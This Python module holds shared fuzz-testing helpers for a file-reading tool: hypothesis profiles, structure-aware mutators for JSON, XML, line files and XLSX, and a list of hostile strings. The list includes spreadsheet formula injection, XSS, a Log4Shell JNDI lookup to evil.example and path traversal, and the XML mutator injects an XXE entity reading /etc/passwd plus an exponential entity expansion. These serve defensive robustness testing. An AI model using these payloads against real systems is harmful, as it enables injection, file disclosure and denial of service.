"""What the property-based fuzz tests share: the hypothesis profiles, hostile strings and mutators.

Profiles (issue 13, point 7):

- ``mamori-fuzz`` (default): a small example count per test, derandomised, no example database, so
  the normal suite is fast and gives the same result on every run and machine;
- ``mamori-fuzz-long`` (``MAMORI_FUZZ=long``): ``MAMORI_FUZZ_FACTOR`` (default 50) times as many
  examples, random. ``bench/fuzz_soak.py`` runs the fuzz tests with it.

:data:`STATS` counts the examples each reader or writer ran (the soak runner reports them).
"""

from __future__ import annotations

import atexit
import contextlib
import copy
import io
import os
import random
import re
import shutil
import tempfile
import zipfile
from collections import Counter
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import orjson
from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from lxml import etree

from mamori.errors import MamoriError

LONG = os.environ.get("MAMORI_FUZZ", "").strip().lower() == "long"
FACTOR = int(os.environ.get("MAMORI_FUZZ_FACTOR", "50"))

settings.register_profile(
    "mamori-fuzz",
    deadline=None,
    derandomize=True,
    phases=[Phase.explicit, Phase.reuse, Phase.generate],  # no shrinking: a failure shows as found
    database=None,
    print_blob=True,
    suppress_health_check=list(HealthCheck),
)
settings.register_profile(
    "mamori-fuzz-long",
    deadline=None,
    derandomize=False,
    database=None,
    print_blob=True,
    suppress_health_check=list(HealthCheck),
)

STATS: Counter[str] = Counter()


def fuzz(examples: int) -> settings:
    """Settings for one fuzz test: ``examples`` in the normal suite, FACTOR times more when long."""
    if LONG:
        return settings(settings.get_profile("mamori-fuzz-long"), max_examples=examples * FACTOR)
    return settings(settings.get_profile("mamori-fuzz"), max_examples=examples)


_SCRATCH = Path(tempfile.mkdtemp(prefix="mamori-fuzz-"))
atexit.register(shutil.rmtree, _SCRATCH, ignore_errors=True)


def scratch_file(name: str, data: bytes) -> Path:
    """``data`` in a file called ``name`` (in a folder of its own, so sibling files never mix)."""
    folder = _SCRATCH / f"{os.getpid()}-{STATS.total()}"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(data)
    return path


def reads_or_refuses(label: str, call: Callable[[], Any]) -> Any:
    """The property of every reader: it returns, or raises a MamoriError of one line. Anything else
    (TypeError, RecursionError, lxml, openpyxl or yaml errors ...) propagates and fails the test."""
    STATS[label] += 1
    try:
        result = call()
    except MamoriError as exc:
        assert "\n" not in str(exc), f"error of more than one line: {exc!r}"
        return None
    assert "root:x:0:0" not in repr(result)[:2_000_000], "an external entity was resolved"
    return result


# ---- hostile text

HUGE = "A" * 200_000
HOSTILE: list[str] = [
    "",
    " ",
    "\x00",
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "[/]x",
    "[link=http://evil.example]x[/link]",
    "[bold red]",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "</td></tr></table>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n",
    "../../../../etc/passwd",
    "\u202eexe.txt",
    "\ufeff",
    "\u2028\u2029",
    "\x85",
    "a\nb\r\nc",
    "日本語のコンポーネント",
    "NOASSERTION",
    "NONE",
    "pkg:npm/%00@1",
    "pkg:",
    "cpe:2.3:a:*:*:*:*:*:*:*:*:*:*",
    "cpe:/",
    "1e999",
    "-0",
    "NaN",
    "null",
    "true",
    "0x10",
    "9" * 400,
    "x" * 5000,
]


def hostile_text() -> st.SearchStrategy[str]:
    """Hostile strings: the fixed list, random unicode (control characters included) and one huge one."""
    return st.one_of(
        st.sampled_from(HOSTILE),
        st.text(max_size=40),
        st.text(alphabet=st.characters(max_codepoint=0x9F), max_size=20),
        st.just(HUGE),
    )


JSON_JUNK = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**63), 2**64 - 1)
    | st.floats(allow_nan=False, allow_infinity=False)
    | hostile_text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)

# a placeholder replaced in the serialised text by a construct JSON libraries cannot produce
_NEST = "\x00mamori-nest\x00"
_SURROGATE = "\x00mamori-surrogate\x00"
_BIGNUM = "\x00mamori-bignum\x00"
_INVALID_UTF8 = [b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\xc0\xaf"]


def _slots(value: Any, found: list[tuple[Any, Any]], limit: int = 4000) -> list[tuple[Any, Any]]:
    """(container, key) pairs of a JSON tree, breadth first, at most ``limit``."""
    queue = [value]
    while queue and len(found) < limit:
        node = queue.pop(0)
        items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
        for key, child in items:
            found.append((node, key))
            queue.append(child)
    return found


@st.composite
def mutated_tree(draw: st.DrawFn, seeds: Sequence[Any]) -> bytes:
    """A real JSON/YAML document with one to three structure-aware mutations, serialised as JSON:
    a value replaced by one of another type, a key deleted or duplicated, a value nested thousands of
    levels deep, a huge string, control characters, a lone surrogate, invalid UTF-8."""
    doc = orjson.loads(orjson.dumps(draw(st.sampled_from(list(seeds)))))
    duplicates: list[tuple[str, Any]] = []
    raw_bytes: list[bytes] = []
    for _ in range(draw(st.integers(1, 3))):
        slots = _slots(doc, [])
        if not slots:
            doc = draw(JSON_JUNK)
            break
        container, key = slots[draw(st.integers(0, len(slots) - 1))]
        op = draw(
            st.sampled_from(
                [
                    "replace",
                    "replace",
                    "delete",
                    "duplicate",
                    "nest",
                    "text",
                    "surrogate",
                    "utf8",
                    "empty",
                    "number",
                ]
            )
        )
        if op == "delete":
            del container[key]
        elif op == "duplicate" and isinstance(container, dict):
            duplicates.append((key, draw(JSON_JUNK)))
        elif op == "duplicate":
            container.insert(key, container[key])
        elif op == "nest":
            container[key] = _NEST
        elif op == "text":
            container[key] = draw(hostile_text())
        elif op == "surrogate":
            container[key] = _SURROGATE
        elif op == "number":
            container[key] = _BIGNUM
        elif op == "utf8":
            marker = f"\x00mamori-bytes-{len(raw_bytes)}\x00"
            raw_bytes.append(draw(st.sampled_from(_INVALID_UTF8)))
            container[key] = marker
        elif op == "empty":
            container[key] = (
                {} if isinstance(container[key], dict) else [] if isinstance(container[key], list) else ""
            )
        else:
            container[key] = draw(JSON_JUNK)
    text = orjson.dumps(doc)
    for key, junk in duplicates:
        quoted = orjson.dumps(key)
        text = text.replace(quoted + b":", quoted + b":" + orjson.dumps(junk) + b"," + quoted + b":", 1)
    depth = draw(st.sampled_from([300, 1100, 5000, 50_000]))
    nest_open = draw(st.sampled_from([b"[", b'{"a":']))
    nest_close = b"]" if nest_open == b"[" else b"}"
    text = text.replace(orjson.dumps(_NEST), nest_open * depth + b"1" + nest_close * depth)
    text = text.replace(orjson.dumps(_SURROGATE), b'"\\ud800x\\udfff"')
    text = text.replace(
        orjson.dumps(_BIGNUM), draw(st.sampled_from([b"1e400", b"-1e400", b"1" * 400, b"-0.0"]))
    )
    for n, raw in enumerate(raw_bytes):
        text = text.replace(orjson.dumps(f"\x00mamori-bytes-{n}\x00"), b'"x' + raw + b'y"')
    return text


@st.composite
def mutated_bytes(draw: st.DrawFn, seeds: Sequence[bytes]) -> bytes:
    """A real file with a few byte-level edits: delete, insert, replace by a token, duplicate, truncate."""
    data = bytearray(draw(st.sampled_from(list(seeds))))
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["delete", "insert", "replace", "duplicate", "truncate", "flip"]))
        start = draw(st.integers(0, len(data)))
        end = min(len(data), start + draw(st.integers(0, 64)))
        if op == "delete":
            del data[start:end]
        elif op == "insert":
            data[start:start] = draw(st.binary(min_size=1, max_size=16))
        elif op == "replace":
            data[start:end] = draw(
                st.sampled_from(
                    [
                        b"",
                        b"\x00",
                        b'"',
                        b"<",
                        b">",
                        b"{",
                        b"[",
                        b":",
                        b"\n",
                        b"\t",
                        b",",
                        b"=",
                        *_INVALID_UTF8,
                    ]
                )
            )
        elif op == "duplicate":
            data[start:start] = data[start:end]
        elif op == "flip" and data:
            where = min(start, len(data) - 1)
            data[where] ^= 1 << draw(st.integers(0, 7))
        else:
            del data[start:]
    return bytes(data)


_SEPARATOR = re.compile(r"(:\s*|=\s*|\t|,|\s+)")


@st.composite
def mutated_lines(draw: st.DrawFn, seeds: Sequence[bytes]) -> bytes:
    """A real line-oriented file (tag-value, TSV, CSV, lockfiles) with lines deleted, duplicated, swapped,
    or a value after its separator replaced by hostile text."""
    lines = draw(st.sampled_from(list(seeds))).decode("utf-8", "surrogateescape").split("\n")
    for _ in range(draw(st.integers(1, 4))):
        if not lines:
            lines = [""]
        i = draw(st.integers(0, len(lines) - 1))
        op = draw(st.sampled_from(["value", "value", "delete", "duplicate", "swap", "insert", "indent"]))
        if op == "value":
            parts = _SEPARATOR.split(lines[i], maxsplit=1)
            head = "".join(parts[:2]) if len(parts) > 1 else ""
            lines[i] = head + draw(hostile_text()).replace("\n", " ")
        elif op == "delete":
            del lines[i]
        elif op == "duplicate":
            lines.insert(i, lines[i])
        elif op == "swap":
            j = draw(st.integers(0, len(lines) - 1))
            lines[i], lines[j] = lines[j], lines[i]
        elif op == "insert":
            lines.insert(i, draw(hostile_text()))
        else:
            lines[i] = " " * draw(st.integers(1, 9)) + lines[i]
    return "\n".join(lines).encode("utf-8", "surrogateescape")


_ENTITY_DTD = (
    b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>'
)
_XML_ILLEGAL = re.compile(r"[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


_SEED_PARSER = etree.XMLParser(resolve_entities=False, recover=True, huge_tree=True, no_network=True)


@st.composite
def mutated_xml(draw: st.DrawFn, seeds: Sequence[bytes]) -> bytes:
    """A real XML file with elements deleted, duplicated or nested deeply, text and attributes replaced
    by hostile text, or an entity (external file, exponential expansion) placed in a text."""
    root = etree.fromstring(draw(st.sampled_from(list(seeds))), _SEED_PARSER)
    elements = list(root.iter())[:3000]
    entity = None
    for _ in range(draw(st.integers(1, 3))):
        element = elements[draw(st.integers(0, len(elements) - 1))]
        op = draw(
            st.sampled_from(["text", "text", "attribute", "delete", "duplicate", "nest", "entity", "empty"])
        )
        parent = element.getparent()
        if op == "text" and isinstance(element.tag, str):
            element.text = _XML_ILLEGAL.sub("", draw(hostile_text()))
        elif op == "attribute" and element.attrib:
            name = draw(st.sampled_from(sorted(element.attrib)))
            with contextlib.suppress(ValueError):  # a prefixed name whose namespace the seed lacked
                element.set(name, _XML_ILLEGAL.sub("", draw(hostile_text())))
        elif op == "delete" and parent is not None:
            parent.remove(element)
            elements = list(root.iter())[:3000]
        elif op == "duplicate" and parent is not None:
            parent.insert(parent.index(element), copy.deepcopy(element))
            elements = list(root.iter())[:3000]
        elif op == "nest" and parent is not None and isinstance(element.tag, str):
            outer = current = etree.Element(element.tag)
            for _ in range(draw(st.sampled_from([50, 300, 3000]))):
                current = etree.SubElement(current, element.tag)
            parent.replace(element, outer)
            elements = list(root.iter())[:3000]
        elif op == "entity" and isinstance(element.tag, str):
            entity = draw(st.sampled_from(["xxe", "e"]))
            element.text = "MAMORI-ENTITY-HERE"
            element[:] = []
        elif op == "empty" and isinstance(element.tag, str):
            element.text = None
            element[:] = []
    data = etree.tostring(root, encoding="utf-8")
    if entity:
        data = data.replace(b"MAMORI-ENTITY-HERE", b"&" + entity.encode() + b";")
        data = _ENTITY_DTD.replace(b"<!DOCTYPE r", b"<!DOCTYPE " + _local(root.tag)) + data
    return data


def _local(tag: str) -> bytes:
    return tag.rsplit("}", 1)[-1].encode()


@st.composite
def mutated_zip(draw: st.DrawFn, seeds: Sequence[bytes]) -> bytes:
    """A real XLSX (a zip) with one member's XML mutated, a member dropped, or the archive bytes edited."""
    source = draw(st.sampled_from(list(seeds)))
    op = draw(st.sampled_from(["member", "member", "drop", "bytes"]))
    if op == "bytes":
        return draw(mutated_bytes([source]))
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    names = sorted(members)
    name = draw(st.sampled_from(names))
    if op == "drop":
        del members[name]
    elif name.endswith((".xml", ".rels")):
        try:
            members[name] = draw(mutated_xml([members[name]]))
        except etree.XMLSyntaxError:
            members[name] = draw(mutated_bytes([members[name]]))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return out.getvalue()


def shuffled(items: Sequence[Any], seed: str) -> list[Any]:
    """A stable pseudo-random order (for picking a few seeds out of many)."""
    out = list(items)
    random.Random(seed).shuffle(out)
    return out
